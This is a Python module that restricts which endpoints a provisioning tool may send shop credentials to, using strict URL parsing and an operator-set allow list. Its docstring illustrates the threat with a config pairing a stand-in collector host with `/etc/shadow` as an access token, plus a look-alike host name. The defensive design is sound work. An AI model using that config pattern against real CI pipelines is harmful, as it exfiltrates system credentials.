"""Where a shop's credentials may be sent: decided by the operator, never by the config.

A pull request can edit the config, and CI plans every pull request with real credentials.
If the config alone chose the endpoint, `endpoint: http://collector.example` plus
`access_token: {file: /etc/shadow}` would send that file's content anywhere during `plan`.
So a shop's `endpoint` may only be:

- omitted (the platform's production API), or `sandbox` (the emulator in this process);
- one of the platform's official API hosts (its descriptor's `api_hosts`, https only);
- this machine: `localhost`, `127.0.0.1` or `[::1]`, any scheme and port (`sandbox serve`);
- a URL under a prefix listed in the environment variable PROVISIONER_ALLOW_ENDPOINTS
  (comma-separated), which the operator sets where the job runs and a config cannot.

Prefixes match on scheme, host, port (the scheme's default when omitted) and whole path
segments: `https://gw.example.com/top` allows `https://gw.example.com/top/router/rest`, not
`https://gw.example.com/topx` nor `https://gw.example.com.evil/top`. Endpoints are parsed
strictly (no user info, query, fragment, percent escapes or dot segments), so this check and
the HTTP client can never read one URL two ways.
"""

from __future__ import annotations

import os
import re
from collections.abc import Mapping
from dataclasses import dataclass

from provisioner.errors import ProvisionerError
from provisioner.platforms import descriptor

ALLOW_VARIABLE = "PROVISIONER_ALLOW_ENDPOINTS"
SANDBOX = "sandbox"
LOOPBACK = frozenset({"localhost", "127.0.0.1", "[::1]"})
_DEFAULT_PORTS = {"http": 80, "https": 443}
_URL = re.compile(
    r"(?P<scheme>https?)://"
    r"(?P<host>[a-z0-9](?:[a-z0-9.-]*[a-z0-9])?|\[[0-9a-f:.]+\])"
    r"(?::(?P<port>[0-9]{1,5}))?"
    r"(?P<path>/[a-z0-9._~!$&'()*+,;=:@/-]*)?",
    re.ASCII | re.IGNORECASE,
)


class EndpointError(ProvisionerError):
    """An endpoint, or an entry of PROVISIONER_ALLOW_ENDPOINTS, that credentials may not go to."""


@dataclass(frozen=True)
class Url:
    scheme: str
    host: str
    port: int
    segments: tuple[str, ...]

    def under(self, prefix: Url) -> bool:
        return (self.scheme, self.host, self.port) == (
            prefix.scheme,
            prefix.host,
            prefix.port,
        ) and self.segments[: len(prefix.segments)] == prefix.segments


def parse_url(text: str) -> Url | None:
    """The URL `text` names, or None when it is not a plain http(s) URL (see module docstring)."""
    match = _URL.fullmatch(text)
    if match is None:
        return None
    scheme = match["scheme"].lower()
    port = int(match["port"]) if match["port"] else _DEFAULT_PORTS[scheme]
    segments = tuple(part for part in (match["path"] or "").split("/") if part)
    if not 0 < port < 65536 or any(part in (".", "..") for part in segments):
        return None
    return Url(scheme, match["host"].lower(), port, segments)


def allowed_prefixes(environ: Mapping[str, str] | None = None) -> tuple[Url, ...]:
    """The operator's extra prefixes; EndpointError naming an entry that is not a URL prefix."""
    raw = (os.environ if environ is None else environ).get(ALLOW_VARIABLE, "")
    prefixes = []
    for entry in (part.strip() for part in raw.split(",")):
        if not entry:
            continue
        url = parse_url(entry)
        if url is None:
            raise EndpointError(
                f"{ALLOW_VARIABLE}: {entry!r} is not a URL prefix like "
                "https://host[:port][/path] (no query, user info or escapes)"
            )
        prefixes.append(url)
    return tuple(prefixes)


def official_hosts(platform: str) -> tuple[str, ...]:
    return descriptor(platform).api_hosts


def refusal(shop: str, platform: str, endpoint: str | None, extra: tuple[Url, ...]) -> str | None:
    """Why `shop`'s credentials may not go to `endpoint`; None when they may."""
    if endpoint is None or endpoint == SANDBOX:
        return None
    url = parse_url(endpoint)
    if url is None:
        return (
            f"endpoint {endpoint!r} of shop '{shop}' is not 'sandbox' or a plain http(s) URL "
            "(https://host[:port][/path], no query, user info or escapes)"
        )
    if url.host in LOOPBACK:
        return None
    official = tuple(u for u in map(parse_url, official_hosts(platform)) if u is not None)
    if any(url.under(prefix) for prefix in (*official, *extra)):
        return None
    hosts = ", ".join(official_hosts(platform)) or "none"
    return (
        f"shop '{shop}' would send its credentials to {endpoint}, which is not {platform}'s "
        f"official API ({hosts}), the sandbox or this machine; refused before reading any "
        f"credential or sending anything. If that endpoint is yours, allow it where provisioner "
        f"runs: {ALLOW_VARIABLE}={endpoint} in the environment (a config cannot allow it)"
    )


def check_endpoint(shop: str, platform: str, endpoint: str | None) -> None:
    """EndpointError unless `shop`'s credentials may go to `endpoint`."""
    reason = refusal(shop, platform, endpoint, allowed_prefixes())
    if reason is not None:
        raise EndpointError(reason)
